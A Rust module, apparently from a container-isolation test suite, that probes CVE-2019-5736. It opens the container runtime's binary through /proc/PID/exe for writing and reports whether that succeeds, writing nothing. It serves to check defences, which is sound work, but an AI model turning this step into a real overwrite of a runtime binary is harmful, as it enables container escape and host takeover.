//! Opens the runtime's own program for writing, through the door that its
//! process leaves in /proc. The next container would run what we put there. It
//! is opened, and nothing is written.

use std::fs;
use std::os::fd::AsFd;

use nix::errno::Errno;
use nix::fcntl::OFlag;
use nix::sys::stat::fstat;

use crate::attack::{
    Argument, Arguments, Attack, OrStopped, Outcome, StoppedBy, Try,
};
use crate::outside::Place;
use crate::procfs;

pub const ATTACK: Attack = Attack {
    name: "overwrite-runtime",
    tries: "open the runtime's program for writing (03 and up: with --init)",
    stopped: StoppedBy::Step(5),
    rule: "the file's owner has no id in this user namespace",
    source: "CVE-2019-5736, proc_pid_exe(5), user_namespaces(7)",
    arguments: &[Argument::new("PID", "1", "a process that runs it")],
    run,
};

fn run(arguments: &Arguments) -> Try {
    let exe = format!("{}/exe", arguments.text("PID")?);
    let program = procfs::open(&exe, OFlag::O_PATH)
        .or_stopped(format!("open(\"/proc/{exe}\")"))?;
    let found = fstat(program.as_fd()).or_stopped("fstat()")?;
    let path =
        procfs::link(&exe).or_stopped(format!("readlink(\"/proc/{exe}\")"))?;
    if fs::metadata(&path).is_ok() && Place::of(&path) == Ok(Place::from(found))
    {
        return Ok(Outcome::CannotTry(format!(
            "{} is the container's own program: try with --init",
            path.display()
        )));
    }
    // A running program can't be written (ETXTBSY). The kernel checks that
    // after the permission: all that is left then is to wait for its end.
    match procfs::open(&exe, OFlag::O_WRONLY) {
        Err(error) if error.raw_os_error() == Some(Errno::ETXTBSY as i32) => {
            Ok(Outcome::Worked(format!(
                "{} is ours to write once it has ended (ETXTBSY)",
                path.display()
            )))
        }
        opened => {
            opened.or_stopped(format!("open(\"/proc/{exe}\", O_WRONLY)"))?;
            Ok(Outcome::Worked(format!(
                "{} is open for writing",
                path.display()
            )))
        }
    }
}
